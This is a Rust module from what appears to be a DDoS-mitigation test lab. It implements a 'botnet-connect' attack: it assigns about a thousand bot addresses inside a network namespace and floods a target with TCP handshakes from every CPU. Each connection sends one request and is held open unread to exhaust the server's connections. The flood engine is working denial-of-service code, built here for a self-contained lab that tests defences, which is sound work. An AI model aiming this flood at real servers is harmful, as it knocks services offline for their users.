//! The botnet-connect attack: about a thousand real, routable sources in the attackers'
//! namespace completing TCP handshakes with the origin as fast as they can, each connection
//! sending one request and then held open without reading, so the server runs out of
//! connections rather than bandwidth. [`add_addresses`] gives the attackers their addresses and
//! routes the origin's answers back to them; [`connect_flood`] opens the connections from every
//! CPU. Nothing is spoofed, and only the target is ever connected to. It does not judge what the
//! origin does with the connections; the caller reads that from the origin.

use std::{
    collections::{BTreeMap, VecDeque},
    io,
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
    sync::atomic::{AtomicBool, AtomicUsize, Ordering},
    time::{Duration, Instant},
};

use moat::netns::{NetNs, NetNsError, run};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use crate::topology::{self, ATTACKER_IPV4, LabNet, mac_string};

/// The bots' addresses: a prefix outside every other lab range (origin, clients, attackers,
/// first-time visitors, spoofed sources), routed by the router to the attackers' namespace.
pub const BOTNET_V4: (Ipv4Addr, u8) = (Ipv4Addr::new(198, 18, 128, 0), 22);

/// How many bot addresses [`BOTNET_V4`] holds (neither the network nor the broadcast address).
pub const MAX_BOTS: u16 = (1 << (32 - BOTNET_V4.1)) - 2;

/// Most connections open at once, all senders together; past it the oldest are closed.
pub const MAX_OPEN: usize = 8_000;

/// How long a connection may take to complete before it counts as failed.
pub const CONNECT_TIMEOUT: Duration = Duration::from_secs(3);

/// What every established connection sends once before it is held open.
pub const REQUEST: &[u8] = b"GET / HTTP/1.1\r\nHost: origin.lab\r\n\r\n";

/// The router's address on the attackers' link (set up in `topology`): the bots' gateway.
const ROUTER_ON_ATTACKER_LINK: Ipv4Addr = Ipv4Addr::new(198, 18, 2, 254);

/// File descriptors kept free for everything else the process has open.
const SPARE_FILES: u64 = 1_024;

/// Most connection attempts a sender makes before it looks at its sockets again.
const BURST: u64 = 64;

/// Events taken from epoll per wait.
const EVENTS: usize = 256;

/// The longest a sender waits for events before it looks at its pace and the clock again.
const TICK: Duration = Duration::from_millis(10);

/// The `index`th bot's address (198.18.128.1 and up), or `None` past [`MAX_BOTS`].
pub fn bot_address(index: u16) -> Option<Ipv4Addr> {
    (index < MAX_BOTS).then(|| Ipv4Addr::from(u32::from(BOTNET_V4.0) + 1 + u32::from(index)))
}

/// Gives the attackers' namespace the first `count` bot addresses (at most [`MAX_BOTS`]; the
/// rest are left out) as /32s on its interface, in one `ip -batch`, and routes [`BOTNET_V4`]
/// on the router to the attackers' own address, so the origin's answers come back. Both sides
/// of the attackers' link also get a permanent neighbour entry for the other: the lab's fast
/// path redirects every frame from the attackers, ARP included, to the origin, so neither
/// could resolve the other. And the attackers' interface computes its TCP checksums itself
/// (`ethtool -K IFACE tx off`): the fast path hands frames on before an offloaded checksum is
/// filled in, and the origin would drop every segment as corrupt. Replaces what it finds, so
/// calling it again does no harm. Returns the addresses.
pub fn add_addresses(net: &LabNet, count: u16) -> Result<Vec<Ipv4Addr>, NetNsError> {
    let addresses: Vec<Ipv4Addr> = (0..count).map_while(bot_address).collect();
    let link = &net.attacker_link;
    let iface = &link.host_iface;
    let mut batch: String = addresses
        .iter()
        .map(|address| format!("addr replace {address}/32 dev {iface}\n"))
        .collect();
    batch.push_str(&format!(
        "neigh replace {ROUTER_ON_ATTACKER_LINK} lladdr {} dev {iface} nud permanent\n",
        mac_string(link.router_mac)
    ));
    topology::ip_batch(&net.attackers, &batch)?;
    run(net
        .attackers
        .command("ethtool")
        .args(["-K", iface, "tx", "off"]))?;
    let router_iface = &link.router_iface;
    let attacker = ATTACKER_IPV4.to_string();
    let (prefix, prefix_len) = BOTNET_V4;
    net.router.ip(&[
        "neigh",
        "replace",
        &attacker,
        "lladdr",
        &mac_string(link.host_mac),
        "dev",
        router_iface,
        "nud",
        "permanent",
    ])?;
    net.router.ip(&[
        "route",
        "replace",
        &format!("{prefix}/{prefix_len}"),
        "via",
        &attacker,
        "dev",
        router_iface,
    ])?;
    Ok(addresses)
}

/// What a connection flood did.
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct BotnetReport {
    /// Connections started (SYNs the kernel was asked to send).
    pub attempts: u64,
    /// Connections whose handshake completed; each then sent [`REQUEST`].
    pub established: u64,
    /// Connections that were refused, reset or not completed within [`CONNECT_TIMEOUT`] (or
    /// before [`MAX_OPEN`] made them the oldest to close). The attempts neither established
    /// nor failed were still in progress when the flood ended.
    pub failed: u64,
    /// Most connections open at once (in progress or held), all senders together.
    pub peak_open: u64,
    /// How long the flood ran (its longest sender).
    pub elapsed: Duration,
}

impl BotnetReport {
    /// Connection attempts per second over the whole flood.
    pub fn attempts_per_second(&self) -> f64 {
        self.attempts as f64 / self.elapsed.as_secs_f64().max(1e-3)
    }
}

/// A connection flood that could not run.
#[derive(Debug, thiserror::Error)]
pub enum BotnetError {
    /// There was no address to connect from.
    #[error("a connection flood needs at least one source address")]
    NoSources,
    /// The process's CPUs could not be read.
    #[error("reading the CPUs this process may run on: {source}")]
    Cpus {
        /// What the OS said.
        source: io::Error,
    },
    /// A sender could not be pinned to its CPU.
    #[error("pinning a sender to CPU {cpu}: {source}")]
    Pin {
        /// The CPU.
        cpu: usize,
        /// What the OS said.
        source: io::Error,
    },
    /// The open files limit could not be read or raised.
    #[error("raising the open files limit to {wanted}: {source}")]
    OpenFiles {
        /// The soft limit asked for.
        wanted: u64,
        /// What the OS said.
        source: io::Error,
    },
    /// An epoll instance could not be created or told about a socket.
    #[error("{what}: {source}")]
    Epoll {
        /// What was being done, e.g. "creating an epoll instance".
        what: &'static str,
        /// What the OS said.
        source: io::Error,
    },
    /// A socket could not be created or configured.
    #[error("{what} a TCP socket: {source}")]
    Socket {
        /// What was being done, e.g. "opening" or "setting SO_LINGER on".
        what: &'static str,
        /// What the OS said.
        source: io::Error,
    },
    /// A socket could not be bound to its source, which is not the namespace's.
    #[error(
        "binding a socket to {address} (an address of the namespace, from add_addresses?): {source}"
    )]
    Bind {
        /// The source address.
        address: Ipv4Addr,
        /// What the OS said.
        source: io::Error,
    },
    /// The namespace could not be entered.
    #[error(transparent)]
    Namespace(#[from] NetNsError),
}

/// From `ns`, opens TCP connections to `target`, each bound to the next of `sources` in turn,
/// at up to `rate` attempts per second in all (0: as fast as possible), for `duration` or until
/// `stop` is set. One sender per CPU this process may run on, pinned to it, each with its share
/// of the rate and of [`MAX_OPEN`]. Sockets are non-blocking and watched with epoll; one that
/// connects sends [`REQUEST`] and is held open, unread, until the cap closes the oldest. Every
/// socket closes with SO_LINGER 0 (a reset, no TIME_WAIT) and all are closed when it returns.
/// Raises this process's open files limit as needed (and leaves it raised).
pub fn connect_flood(
    ns: &NetNs,
    sources: &[Ipv4Addr],
    target: SocketAddrV4,
    rate: u64,
    duration: Duration,
    stop: &AtomicBool,
) -> Result<BotnetReport, BotnetError> {
    if sources.is_empty() {
        return Err(BotnetError::NoSources);
    }
    let cpus = crate::cpus::allowed().map_err(|source| BotnetError::Cpus { source })?;
    let senders = cpus.len();
    let files = raise_open_files(MAX_OPEN as u64 + SPARE_FILES)?;
    let max_open = MAX_OPEN.min(usize::try_from(files.saturating_sub(SPARE_FILES)).unwrap_or(0));
    let shared = Shared {
        sources,
        target: SockAddr::from(target),
        next_source: AtomicUsize::new(0),
        open: AtomicUsize::new(0),
        peak_open: AtomicUsize::new(0),
        halt: AtomicBool::new(false),
        stop,
    };
    let results = std::thread::scope(|scope| {
        let handles: Vec<_> = cpus
            .iter()
            .enumerate()
            .map(|(index, &cpu)| {
                let plan = SenderPlan {
                    cpu,
                    rate: crate::cpus::share(rate, senders, index),
                    max_open: (max_open / senders).max(1),
                    duration,
                };
                let shared = &shared;
                scope.spawn(move || {
                    let result = ns
                        .enter(|| run_sender(shared, &plan))
                        .map_err(BotnetError::from)
                        .and_then(|result| result);
                    if result.is_err() {
                        shared.halt.store(true, Ordering::Relaxed);
                    }
                    result
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|handle| {
                handle
                    .join()
                    .unwrap_or_else(|panic| std::panic::resume_unwind(panic))
            })
            .collect::<Vec<_>>()
    });
    let mut total = BotnetReport {
        peak_open: shared.peak_open.load(Ordering::Relaxed) as u64,
        ..BotnetReport::default()
    };
    for result in results {
        let report = result?;
        total.attempts += report.attempts;
        total.established += report.established;
        total.failed += report.failed;
        total.elapsed = total.elapsed.max(report.elapsed);
    }
    Ok(total)
}

/// What the senders of one flood share.
struct Shared<'a> {
    sources: &'a [Ipv4Addr],
    target: SockAddr,
    /// Which source the next connection binds to, across all senders.
    next_source: AtomicUsize,
    /// Sockets open now, all senders together.
    open: AtomicUsize,
    peak_open: AtomicUsize,
    /// Set when a sender fails, so the others end too.
    halt: AtomicBool,
    stop: &'a AtomicBool,
}

impl Shared<'_> {
    fn halted(&self) -> bool {
        self.halt.load(Ordering::Relaxed) || self.stop.load(Ordering::Relaxed)
    }
}

/// One sender's part of the flood.
struct SenderPlan {
    cpu: usize,
    /// Attempts per second (0: as fast as possible).
    rate: u64,
    max_open: usize,
    duration: Duration,
}

/// One sender's socket.
struct Connection {
    socket: Socket,
    /// The handshake is still in progress (the socket is in the epoll set).
    connecting: bool,
}

/// One sender: its epoll instance and its sockets, keyed by a token that grows with each
/// attempt, so the first key is always the oldest socket. Dropping it closes them all.
struct Sender<'a> {
    shared: &'a Shared<'a>,
    epoll: OwnedFd,
    sockets: BTreeMap<u64, Connection>,
    /// Sockets still connecting, oldest first, with when they started; entries for sockets
    /// that have since connected or closed are skipped.
    pending: VecDeque<(u64, Instant)>,
    next_token: u64,
    report: BotnetReport,
}

/// Runs one sender in the calling thread (already in the namespace): pins it, then opens
/// connections at its pace until its time is up or the flood halts.
fn run_sender(shared: &Shared<'_>, plan: &SenderPlan) -> Result<BotnetReport, BotnetError> {
    crate::cpus::pin(plan.cpu).map_err(|source| BotnetError::Pin {
        cpu: plan.cpu,
        source,
    })?;
    let mut sender = Sender::new(shared)?;
    let started = Instant::now();
    let mut events = [libc::epoll_event { events: 0, u64: 0 }; EVENTS];
    while started.elapsed() < plan.duration && !shared.halted() {
        let elapsed = started.elapsed();
        let due = if plan.rate == 0 {
            sender.report.attempts + BURST
        } else {
            (elapsed.as_secs_f64() * plan.rate as f64) as u64
        };
        for _ in 0..due.saturating_sub(sender.report.attempts).min(BURST) {
            sender.open(plan.max_open)?;
        }
        let wait = if plan.rate == 0 || sender.report.attempts < due {
            Duration::ZERO
        } else {
            Duration::from_secs_f64((sender.report.attempts + 1) as f64 / plan.rate as f64)
                .saturating_sub(started.elapsed())
                .min(TICK)
                .min(plan.duration.saturating_sub(started.elapsed()))
        };
        sender.poll(&mut events, wait)?;
        sender.expire();
    }
    Ok(BotnetReport {
        elapsed: started.elapsed(),
        ..sender.report
    })
}

impl<'a> Sender<'a> {
    fn new(shared: &'a Shared<'a>) -> Result<Sender<'a>, BotnetError> {
        // SAFETY: epoll_create1 has no memory preconditions.
        let fd = unsafe { libc::epoll_create1(libc::EPOLL_CLOEXEC) };
        if fd < 0 {
            return Err(BotnetError::Epoll {
                what: "creating an epoll instance",
                source: io::Error::last_os_error(),
            });
        }
        Ok(Sender {
            shared,
            // SAFETY: `fd` is a new epoll descriptor that nothing else owns.
            epoll: unsafe { OwnedFd::from_raw_fd(fd) },
            sockets: BTreeMap::new(),
            pending: VecDeque::new(),
            next_token: 0,
            report: BotnetReport::default(),
        })
    }

    /// Starts one connection from the next source, closing the oldest socket first if this
    /// sender already has `max_open`.
    fn open(&mut self, max_open: usize) -> Result<(), BotnetError> {
        if self.sockets.len() >= max_open {
            self.close_oldest();
        }
        let shared = self.shared;
        let source = shared.sources
            [shared.next_source.fetch_add(1, Ordering::Relaxed) % shared.sources.len()];
        let socket = new_socket()?;
        socket
            .bind(&SocketAddrV4::new(source, 0).into())
            .map_err(|error| BotnetError::Bind {
                address: source,
                source: error,
            })?;
        self.report.attempts += 1;
        let token = self.next_token;
        self.next_token += 1;
        let connecting = match socket.connect(&shared.target) {
            Ok(()) => false,
            Err(error) if error.raw_os_error() == Some(libc::EINPROGRESS) => true,
            // Refused at once, or no port left for this source and target.
            Err(_) => {
                self.report.failed += 1;
                return Ok(());
            }
        };
        if connecting {
            self.watch(&socket, token)?;
            self.pending.push_back((token, Instant::now()));
        } else {
            self.report.established += 1;
        }
        let open = shared.open.fetch_add(1, Ordering::Relaxed) + 1;
        shared.peak_open.fetch_max(open, Ordering::Relaxed);
        self.sockets
            .insert(token, Connection { socket, connecting });
        if !connecting {
            self.request(token);
        }
        Ok(())
    }

    /// Adds `socket` to the epoll set, to learn when its handshake completes or fails.
    fn watch(&self, socket: &Socket, token: u64) -> Result<(), BotnetError> {
        let mut event = libc::epoll_event {
            events: libc::EPOLLOUT as u32,
            u64: token,
        };
        // SAFETY: both descriptors are open and `event` is a valid epoll_event.
        let result = unsafe {
            libc::epoll_ctl(
                self.epoll.as_raw_fd(),
                libc::EPOLL_CTL_ADD,
                socket.as_raw_fd(),
                &mut event,
            )
        };
        if result == 0 {
            Ok(())
        } else {
            Err(BotnetError::Epoll {
                what: "adding a socket to the epoll set",
                source: io::Error::last_os_error(),
            })
        }
    }

    /// Waits up to `wait` for handshakes to complete or fail, and handles those that did.
    fn poll(
        &mut self,
        events: &mut [libc::epoll_event],
        wait: Duration,
    ) -> Result<(), BotnetError> {
        let timeout_ms = i32::try_from(wait.as_micros().div_ceil(1_000)).unwrap_or(i32::MAX);
        // SAFETY: `events` is valid for writes of as many entries as its length says.
        let ready = unsafe {
            libc::epoll_wait(
                self.epoll.as_raw_fd(),
                events.as_mut_ptr(),
                i32::try_from(events.len()).unwrap_or(i32::MAX),
                timeout_ms,
            )
        };
        if ready < 0 {
            let error = io::Error::last_os_error();
            if error.kind() == io::ErrorKind::Interrupted {
                return Ok(());
            }
            return Err(BotnetError::Epoll {
                what: "waiting for connections",
                source: error,
            });
        }
        for event in &events[..ready as usize] {
            self.completed(event.u64)?;
        }
        Ok(())
    }

    /// Handles the socket `token` that epoll reported: connected (send the request and hold
    /// it) or failed (close it).
    fn completed(&mut self, token: u64) -> Result<(), BotnetError> {
        let Some(connection) = self.sockets.get_mut(&token) else {
            return Ok(());
        };
        if !connection.connecting {
            return Ok(());
        }
        if !matches!(connection.socket.take_error(), Ok(None)) {
            self.report.failed += 1;
            self.close(token);
            return Ok(());
        }
        connection.connecting = false;
        self.report.established += 1;
        // Held sockets leave the epoll set: a reset from the origin would otherwise report
        // them again on every wait.
        // SAFETY: both descriptors are open; a null event is allowed for EPOLL_CTL_DEL.
        let result = unsafe {
            libc::epoll_ctl(
                self.epoll.as_raw_fd(),
                libc::EPOLL_CTL_DEL,
                connection.socket.as_raw_fd(),
                std::ptr::null_mut(),
            )
        };
        if result != 0 {
            return Err(BotnetError::Epoll {
                what: "removing a connected socket from the epoll set",
                source: io::Error::last_os_error(),
            });
        }
        self.request(token);
        Ok(())
    }

    /// Sends the request on the established socket `token`; one the origin already closed is
    /// closed here too.
    fn request(&mut self, token: u64) {
        let sent = self.sockets.get(&token).map(|connection| {
            connection
                .socket
                .send_with_flags(REQUEST, libc::MSG_NOSIGNAL)
        });
        if matches!(sent, Some(Err(_))) {
            self.close(token);
        }
    }

    /// Closes the sockets whose handshake took longer than [`CONNECT_TIMEOUT`].
    fn expire(&mut self) {
        while let Some(&(token, started)) = self.pending.front() {
            if started.elapsed() < CONNECT_TIMEOUT {
                break;
            }
            self.pending.pop_front();
            if self.sockets.get(&token).is_some_and(|c| c.connecting) {
                self.report.failed += 1;
                self.close(token);
            }
        }
    }

    /// Closes this sender's oldest socket; one still connecting counts as failed.
    fn close_oldest(&mut self) {
        if let Some((_, connection)) = self.sockets.pop_first() {
            if connection.connecting {
                self.report.failed += 1;
            }
            self.shared.open.fetch_sub(1, Ordering::Relaxed);
        }
    }

    /// Closes socket `token` (with a reset: SO_LINGER is 0), which also takes it out of the
    /// epoll set.
    fn close(&mut self, token: u64) {
        if self.sockets.remove(&token).is_some() {
            self.shared.open.fetch_sub(1, Ordering::Relaxed);
        }
    }
}

impl Drop for Sender<'_> {
    fn drop(&mut self) {
        self.shared
            .open
            .fetch_sub(self.sockets.len(), Ordering::Relaxed);
    }
}

/// A non-blocking TCP socket that closes with a reset and takes its port only at connect, so
/// each source has the whole port range towards the target.
fn new_socket() -> Result<Socket, BotnetError> {
    let failed = |what| move |source| BotnetError::Socket { what, source };
    let socket =
        Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP)).map_err(failed("opening"))?;
    socket
        .set_nonblocking(true)
        .map_err(failed("setting O_NONBLOCK on"))?;
    socket
        .set_linger(Some(Duration::ZERO))
        .map_err(failed("setting SO_LINGER on"))?;
    let on: libc::c_int = 1;
    // SAFETY: the socket is open, and `on` is a c_int of the size passed.
    let result = unsafe {
        libc::setsockopt(
            socket.as_raw_fd(),
            libc::IPPROTO_IP,
            libc::IP_BIND_ADDRESS_NO_PORT,
            (&raw const on).cast(),
            std::mem::size_of::<libc::c_int>() as libc::socklen_t,
        )
    };
    if result != 0 {
        return Err(failed("setting IP_BIND_ADDRESS_NO_PORT on")(
            io::Error::last_os_error(),
        ));
    }
    Ok(socket)
}

/// Raises this process's soft open files limit to `wanted`, or as far as the hard limit allows;
/// returns the soft limit now in force.
fn raise_open_files(wanted: u64) -> Result<u64, BotnetError> {
    let failed = |source| BotnetError::OpenFiles { wanted, source };
    let mut limit = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: `limit` is a valid, writable rlimit.
    if unsafe { libc::getrlimit(libc::RLIMIT_NOFILE, &mut limit) } != 0 {
        return Err(failed(io::Error::last_os_error()));
    }
    if limit.rlim_cur >= wanted {
        return Ok(limit.rlim_cur);
    }
    limit.rlim_cur = wanted.min(limit.rlim_max);
    // SAFETY: `limit` is a valid rlimit.
    if unsafe { libc::setrlimit(libc::RLIMIT_NOFILE, &limit) } != 0 {
        return Err(failed(io::Error::last_os_error()));
    }
    Ok(limit.rlim_cur)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bot_addresses_stay_inside_their_prefix_and_apart_from_the_others() {
        assert_eq!(bot_address(0), Some(Ipv4Addr::new(198, 18, 128, 1)));
        let last = bot_address(MAX_BOTS - 1).expect("the last address exists");
        assert_eq!(last, Ipv4Addr::new(198, 18, 131, 254), "not the broadcast");
        assert_eq!(bot_address(MAX_BOTS), None);
        let inside = |(prefix, len): (Ipv4Addr, u8), address: Ipv4Addr| {
            let mask = u32::MAX << (32 - len);
            u32::from(address) & mask == u32::from(prefix) & mask
        };
        for range in [
            (Ipv4Addr::new(198, 18, 0, 0), 24),
            (Ipv4Addr::new(198, 18, 1, 0), 24),
            (Ipv4Addr::new(198, 18, 2, 0), 24),
            crate::topology::NEWCOMERS_V4,
            crate::topology::SPOOFED_V4,
        ] {
            for bot in [bot_address(0), Some(last)].into_iter().flatten() {
                assert!(!inside(range, bot), "{bot} is outside {range:?}");
            }
        }
    }

    #[test]
    fn attempts_per_second_is_attempts_over_elapsed() {
        let report = BotnetReport {
            attempts: 4_000,
            elapsed: Duration::from_secs(2),
            ..BotnetReport::default()
        };
        assert_eq!(report.attempts_per_second(), 2_000.0);
        assert_eq!(BotnetReport::default().attempts_per_second(), 0.0);
    }
}
